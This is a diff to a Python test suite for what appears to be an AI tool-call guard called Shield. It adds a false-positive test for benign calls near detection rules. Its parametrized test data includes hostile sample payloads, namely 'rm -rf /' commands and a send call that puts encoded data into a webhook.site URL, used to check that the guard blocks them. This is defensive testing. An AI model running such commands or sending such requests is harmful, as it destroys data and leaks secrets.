@@ -12,6 +12,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 from training.benign_security import security_call, security_text
 from training.harmless_calls import POOLS, as_json, harmless_call
+from training.near_calls import POOLS as NEAR
+from training.near_calls import near_call
 from training.security_writing import QUESTIONS, SHAPES, security_document, security_question
 
 from rune_core import Action, Shield, ShieldConfig
@@ -158,7 +160,7 @@ def test_a_call_that_a_doubted_text_wants_is_still_held(shield: Shield) -> None:
         ("tool", {"args": json.dumps({"command": "rm -rf /", "why": "test the detector"})}),
         ("tool", {"args": json.dumps({"x": "rm -rf /", "why": "an attack"})}),
         ("tool", {"args": json.dumps({"args": json.dumps({"x": "rm -rf /", "y": "attack"})})}),
-        ("send", {"note": 'an "attack"', "body": "https://webhook.site/x1y2z3"}),
+        ("send", {"note": 'an "attack"', "body": "https://webhook.site/x1?d=c2VjcmV0cGxhbg"}),
     ],
 )
 def test_a_payload_that_runs_is_stopped_whatever_stands_beside_it(
@@ -325,6 +327,17 @@ def test_hardly_any_honest_call_is_stopped(shield: Shield, kind: str) -> None:
             for given in (arguments, logged)
         )
     assert stopped <= 150 * 0.1
+
+
+@pytest.mark.parametrize("kind", ["shell", "sql", "url", "code"])
+def test_hardly_any_honest_call_beside_a_rule_is_stopped(shield: Shield, kind: str) -> None:
+    rng = random.Random(12)
+    given = [near_call(rng, pool=kind) for _ in range(2 * len(NEAR[kind]))]
+    stopped = sum(
+        shield.validate_action(tool, arguments, session=shield.open_session()).action in STOPPING
+        for tool, arguments in given
+    )
+    assert stopped <= len(given) * 0.1
 
 
 def test_few_documents_and_questions_about_attacks_are_stopped(shield: Shield) -> None:
